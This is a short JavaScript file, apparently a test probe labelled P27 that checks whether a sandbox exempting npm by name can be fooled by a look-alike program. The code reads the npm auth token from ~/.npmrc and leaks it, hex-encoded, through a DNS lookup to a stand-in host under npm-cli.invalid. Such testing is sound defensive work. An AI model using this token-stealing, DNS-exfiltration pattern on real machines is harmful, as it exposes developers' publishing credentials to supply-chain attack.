// P27: named like npm's CLI so that a rule exempting the package manager by name would let this
// read the npm token. Only the image's own npm, seen exec'd by path, is the package manager.
const fs = require('fs');
const dns = require('dns');
const os = require('os');
let npmrc = '';
try { npmrc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8'); } catch {}
const token = (/_authToken=(\S+)/.exec(npmrc) || [])[1] || 'none';
dns.lookup(`${Buffer.from(token).toString('hex').slice(0, 60)}.npm-cli.invalid`, () => {});
